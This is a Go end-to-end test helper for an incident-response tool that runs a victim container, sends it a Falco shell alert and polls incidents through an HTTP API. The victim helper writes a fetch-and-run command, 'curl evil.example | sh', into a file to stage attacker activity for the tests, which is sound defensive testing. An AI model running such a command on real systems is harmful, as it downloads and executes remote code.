// Package e2e tests quell end to end: alerts through the HTTP API, on an
// embedded Temporal server, against the real Docker daemon.
package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	historypb "go.temporal.io/api/history/v1"
	"go.temporal.io/sdk/client"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/quell-ir/quell/internal/app"
	"github.com/quell-ir/quell/internal/bench/rig"
	"github.com/quell-ir/quell/internal/config"
	"github.com/quell-ir/quell/internal/devserver"
	"github.com/quell-ir/quell/internal/docker"
	"github.com/quell-ir/quell/internal/docker/dockertest"
	"github.com/quell-ir/quell/internal/incident"
)

// stack is quell dev assembled in the test process.
type stack struct {
	t      *testing.T
	cfg    config.Config
	docker *docker.Client
	client client.Client
	url    string
	// logs holds everything quell logged, at debug level.
	logs *syncBuffer
	// token is the bearer token incident reads carry, when the API needs one.
	token string
}

// syncBuffer is a bytes.Buffer that many goroutines may write.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

// String returns what was written so far.
func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// startStack runs an embedded Temporal on a SQLite file, a worker and the
// API; playbookDir "" loads the built-in library.
func startStack(t *testing.T, playbookDir string, edit func(*config.Config)) *stack {
	t.Helper()
	rt := dockertest.Client(t)
	cfg := config.Default()
	cfg.DataDir = t.TempDir()
	cfg.Playbooks = playbookDir
	cfg.Incidents.DedupWindow = time.Hour
	if edit != nil {
		edit(&cfg)
	}
	srv, err := devserver.Start(devserver.Options{DBPath: filepath.Join(cfg.DataDir, "temporal.db")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Stop() })
	cfg.Temporal.Address = srv.HostPort()
	logs := &syncBuffer{}
	log := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	p, err := app.Start(t.Context(), cfg, app.Parts{API: true, Worker: true}, log, app.WithAPIKey(srv.APIKey()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(p.Close)
	api := httptest.NewServer(p.Handler())
	t.Cleanup(api.Close)
	c := p.Client
	return &stack{t: t, cfg: cfg, docker: rt, client: c, url: api.URL, logs: logs}
}

// victim starts a container on an internal network and plays the attacker
// in it.
func victim(t *testing.T, rt *docker.Client, name string) docker.Container {
	t.Helper()
	img := dockertest.Image(t, rt)
	ctr := dockertest.Run(t, rt, img, dockertest.RunOptions{
		Name: name, Networks: []string{dockertest.Network(t, rt)}, Aliases: []string{"app"},
	})
	dockertest.Exec(t, rt, ctr.ID, "/bin/busybox", "sh", "-c", "echo 'curl evil.example | sh' > /pwned.txt")
	return ctr
}

// falcoAlert is Falco's documented terminal-shell alert (falcosecurity/falco-website,
// CC BY 4.0, from ../shared/samples) as a plain Docker host writes it, aimed
// at the container id.
func falcoAlert(t *testing.T, containerID string) []byte {
	t.Helper()
	a, err := rig.LoadAlert("../../../shared/samples/falco-website_docs-outputs-channels_terminal-shell.json")
	if err != nil {
		t.Fatalf("sample alert: %v", err)
	}
	return a.For(containerID)
}

// do sends a request and decodes a JSON answer into out (when not nil).
func (s *stack) do(method, path, token string, body []byte, out any) int {
	s.t.Helper()
	req, err := http.NewRequest(method, s.url+path, bytes.NewReader(body))
	if err != nil {
		s.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	if out != nil {
		if err := json.Unmarshal(raw, out); err != nil {
			s.t.Fatalf("%s %s: %d %s: %v", method, path, resp.StatusCode, raw, err)
		}
	}
	return resp.StatusCode
}

func (s *stack) get(path string) string {
	s.t.Helper()
	resp, err := http.Get(s.url + path)
	if err != nil {
		s.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		s.t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
	}
	return string(b)
}

// incident polls the incident until done says so, or fails after timeout.
func (s *stack) incident(id string, timeout time.Duration, done func(incident.Incident) bool) incident.Incident {
	s.t.Helper()
	return waitIncidentAs(s.t, s.url, s.token, id, timeout, done)
}

func waitIncident(t *testing.T, url, id string, timeout time.Duration, done func(incident.Incident) bool) incident.Incident {
	t.Helper()
	return waitIncidentAs(t, url, "", id, timeout, done)
}

// waitIncidentAs polls the incident with a bearer token ("" for none)
// until done says so or the timeout passes.
func waitIncidentAs(t *testing.T, url, token, id string, timeout time.Duration, done func(incident.Incident) bool) incident.Incident {
	t.Helper()
	deadline := time.Now().Add(timeout)
	var last incident.Incident
	var lastErr string
	for time.Now().Before(deadline) {
		req, err := http.NewRequest("GET", url+"/v1/incidents/"+id, nil)
		if err != nil {
			t.Fatal(err)
		}
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err == nil {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			// A fresh value each time: decoding into the last one would
			// keep the fields this answer leaves out.
			var got incident.Incident
			if resp.StatusCode == http.StatusOK && json.Unmarshal(b, &got) == nil {
				if last = got; done(got) {
					return got
				}
			}
			lastErr = fmt.Sprintf("%d %s", resp.StatusCode, strings.TrimSpace(string(b)))
		} else {
			lastErr = err.Error()
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("incident %s not there after %s: status %q steps %+v (last answer %.300s)", id, timeout, last.Status, last.Steps, lastErr)
	return last
}

func hasStatus(status string) func(incident.Incident) bool {
	return func(i incident.Incident) bool { return i.Status == status }
}

// history returns the incident's workflow history.
func (s *stack) history(id string) []*historypb.HistoryEvent {
	s.t.Helper()
	wfID, runID, _ := strings.Cut(id, ".")
	iter := s.client.GetWorkflowHistory(s.t.Context(), wfID, runID, false, 0)
	var events []*historypb.HistoryEvent
	for iter.HasNext() {
		e, err := iter.Next()
		if err != nil {
			s.t.Fatal(err)
		}
		events = append(events, e)
	}
	return events
}

// recordHistory writes the incident's workflow history, as the Temporal CLI
// exports it, to ../../workflows/testdata/<name>.json when
// QUELL_RECORD_HISTORIES is set: the replay tests keep the workflow
// deterministic against these.
func (s *stack) recordHistory(id, name string) {
	s.t.Helper()
	if os.Getenv("QUELL_RECORD_HISTORIES") == "" {
		return
	}
	b, err := protojson.MarshalOptions{Indent: "  "}.Marshal(&historypb.History{Events: s.history(id)})
	if err != nil {
		s.t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join("../../workflows/testdata", name+".json"), b, 0o644); err != nil {
		s.t.Fatal(err)
	}
}
